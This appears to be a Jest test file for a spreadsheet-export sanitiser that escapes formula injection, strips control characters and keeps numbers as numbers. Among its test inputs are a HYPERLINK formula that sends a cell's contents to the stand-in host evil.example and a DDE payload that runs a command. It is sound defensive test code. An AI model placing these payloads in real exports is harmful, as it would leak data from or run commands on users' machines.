import { describe, expect, test } from '@jest/globals'
import { safeCell } from './safe-cell.ts'

describe('a cell of an export', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['+233201234567', "'+233201234567"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\n=1+1', "'\n=1+1"],
    ['=HYPERLINK("https://evil.example?x="&A1,"Refund")', '\'=HYPERLINK("https://evil.example?x="&A1,"Refund")'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['＝1+1', "'＝1+1"],
    ['\u0000=1+1', "'=1+1"],
  ])('a spreadsheet never takes %j for a formula', (text, safe) => {
    expect(safeCell(text)).toBe(safe)
  })

  test.each(['Ada Obi', "O'Brien", '1,600.00', 'a=b', ' =1', '', 'naïve 😀', 'two\nlines'])(
    '%j stays unchanged',
    (text) => {
      expect(safeCell(text)).toBe(text)
    },
  )

  test.each([0, -12.5, 1e15])('the number %d is exported as a number', (value) => {
    expect(safeCell(value)).toBe(value)
  })

  test('a cell is empty if its value is absent or no finite number', () => {
    expect([null, undefined, Number.NaN, Number.POSITIVE_INFINITY].map(safeCell)).toEqual([null, null, null, null])
  })

  test('an export drops characters that no file can hold: control characters and half surrogate pairs', () => {
    expect(safeCell('a\u0000b\u001Bc\uD800d\uFFFFe')).toBe('abcde')
  })
})
